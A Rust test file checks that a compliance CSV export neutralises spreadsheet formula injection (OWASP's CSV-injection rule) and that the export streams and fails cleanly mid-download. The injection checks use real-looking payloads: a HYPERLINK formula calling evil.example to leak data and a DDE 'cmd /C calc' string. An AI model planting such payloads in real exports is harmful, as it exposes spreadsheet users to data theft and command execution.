//! The compliance export an auditor opens in a spreadsheet: every text cell that a
//! spreadsheet would run as a formula is neutralised (OWASP's CSV-injection rule), in
//! each free-text column; JSON Lines keep the text as recorded.

use chorus_tests::{backend_tests, docs, expect_data, spawn_app, TestBackend};
use serde_json::{json, Value};

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak\",\"open\")";

async fn act(client: &chorus_client::ChorusClient, doc: &str, input: Value) -> Value {
    expect_data(client, doc, json!({ "input": input }), doc).await
}

/// `GET /export/compliance` as the admin, from `from` to `to` in `format`; asserts 200.
async fn export_response(
    app: &chorus_tests::TestApp,
    from: &str,
    to: &str,
    format: &str,
) -> reqwest::Response {
    let response = reqwest::Client::new()
        .get(format!(
            "{}/export/compliance?from={from}&to={to}&format={format}",
            app.address
        ))
        .bearer_auth(&app.admin_token)
        .send()
        .await
        .expect("export");
    assert_eq!(response.status(), 200);
    response
}

async fn export(app: &chorus_tests::TestApp, format: &str) -> String {
    let to = (chrono::Utc::now() + chrono::TimeDelta::hours(1))
        .to_rfc3339_opts(chrono::SecondsFormat::Secs, true);
    export_response(app, "2000-01-01T00:00:00Z", &to, format)
        .await
        .text()
        .await
        .expect("export body")
}

backend_tests! {
    async fn compliance_csv_cells_cannot_run_as_formulas(backend: TestBackend) {
        let app = spawn_app(backend).await;
        let w = app.content_world().await;
        act(
            &w.legal.client,
            docs::DEFINE_APPROVAL_POLICY,
            json!({ "scope": { "kind": "ORGANIZATION" }, "steps": [
                { "name": "=calc", "signers": [{ "function": "SOCIAL_MEDIA" }] }
            ] }),
        )
        .await;
        let mut posts = Vec::new();
        for text in ["First", "Second"] {
            let drafted = act(
                &w.author.client,
                docs::DRAFT_POST,
                json!({ "channelIds": [w.channel], "text": text }),
            )
            .await;
            let id = drafted["draftPost"]["post"]["id"]
                .as_str()
                .expect("id")
                .to_owned();
            act(&w.author.client, docs::SUBMIT_POST, json!({ "postId": id })).await;
            posts.push(id);
        }
        // Comments (approvals and rejections), the step name, legal notes and subject
        // references: every free-text column of the export.
        act(
            &w.manager1.client,
            docs::APPROVE_POST,
            json!({ "postId": posts[0], "comment": FORMULA }),
        )
        .await;
        act(
            &w.manager1.client,
            docs::REJECT_POST,
            json!({ "postId": posts[1], "comment": "+cmd|' /C calc'!A0" }),
        )
        .await;
        act(
            &w.legal.client,
            docs::LOG_LEGAL_REVIEW,
            json!({ "subjectKind": "CONTRACT", "subjectReference": "@SUM(A1:A9)", "kind": "CONTRACT",
                    "outcome": "CLEARED", "notes": "-2+3\tvoid" }),
        )
        .await;

        let csv = export(&app, "csv").await;
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let headers = reader.headers().expect("header").clone();
        let mut cells = Vec::new();
        for record in reader.records() {
            let record = record.expect("a CSV record");
            for (column, cell) in headers.iter().zip(record.iter()) {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "[{backend:?}] {column} would run as a formula: {cell:?}"
                );
                cells.push((column.to_owned(), cell.to_owned()));
            }
        }
        for (column, expected) in [
            ("comment", format!("'{FORMULA}")),
            ("comment", "'+cmd|' /C calc'!A0".to_owned()),
            ("comment", "'-2+3\tvoid".to_owned()),
            ("step", "'=calc".to_owned()),
            ("subject_reference", "'@SUM(A1:A9)".to_owned()),
        ] {
            assert!(
                cells.contains(&(column.to_owned(), expected.clone())),
                "[{backend:?}] {column} {expected:?} in {cells:?}"
            );
        }
        let jsonl = export(&app, "jsonl").await;
        assert!(
            jsonl.lines().any(|line| {
                serde_json::from_str::<Value>(line).expect("JSON line")["comment"] == FORMULA
            }),
            "[{backend:?}] JSON Lines keep the text as recorded"
        );
        app.stop().await;
    }
}

/// The export's statement while it runs, seen from the database.
const EXPORT_RUNNING: &str = "FROM pg_stat_activity WHERE datname = current_database() \
     AND state = 'active' AND query LIKE '%FROM post_approvals WHERE organization_id%' \
     AND pid <> pg_backend_pid()";

backend_tests! {
    #[backends(postgres)]
    async fn an_export_streams_as_it_is_read_and_a_failure_mid_way_fails_the_download(
        backend: TestBackend,
    ) {
        // PostgreSQL: the statement's progress and its failure are visible from outside.
        let app = spawn_app(backend).await;
        // 200,000 approvals with 200-character comments, about 80 MB of CSV: far more than
        // the exporter's four 64 KiB chunks and every socket buffer on the way hold. They
        // are written straight into the read model: the test is about volume, not history.
        app.execute_sql(&format!(
            "INSERT INTO post_approvals (post_id, sequence, organization_id, signer_id, \
             assignment_id, function, step, policy_id, policy_version, signed_at, comment) \
             SELECT gen_random_uuid(), 1, '{org}', gen_random_uuid(), gen_random_uuid(), \
             'SOCIAL_MEDIA', 'Review', gen_random_uuid(), 1, \
             TIMESTAMPTZ '2024-01-01' + n * INTERVAL '1 second', repeat('x', 200) \
             FROM generate_series(1, 200000) AS n",
            org = app.organization_id
        ))
        .await;
        let observer = sqlx::PgPool::connect(app.db.url()).await.expect("observer");
        let mut response =
            export_response(&app, "2000-01-01T00:00:00Z", "2030-01-01T00:00:00Z", "csv").await;
        let first = response.chunk().await.expect("first chunk").expect("bytes");
        let mut received = first.len();

        // The client stops reading: the exporter waits for it instead of reading the
        // rest of the history into memory, so its statement is still running.
        tokio::time::sleep(std::time::Duration::from_millis(500)).await;
        let running: i64 = sqlx::query_scalar(&format!("SELECT COUNT(*) {EXPORT_RUNNING}"))
            .fetch_one(&observer)
            .await
            .expect("activity");
        assert_eq!(
            running, 1,
            "the export must pull rows as the client reads them, not all at once"
        );

        // The database fails mid-way: the download must fail, never end like a file.
        sqlx::query(&format!("SELECT pg_terminate_backend(pid) {EXPORT_RUNNING}"))
            .execute(&observer)
            .await
            .expect("terminate the export's statement");
        let ended = loop {
            match response.chunk().await {
                Ok(Some(bytes)) => received += bytes.len(),
                Ok(None) => break Ok(()),
                Err(error) => break Err(error),
            }
        };
        assert!(
            ended.is_err(),
            "a failed export ended as a complete-looking file after {received} bytes"
        );
        assert!(received < 80_000_000, "the export did not stop: {received} bytes");
        observer.close().await;
        app.stop().await;
    }
}
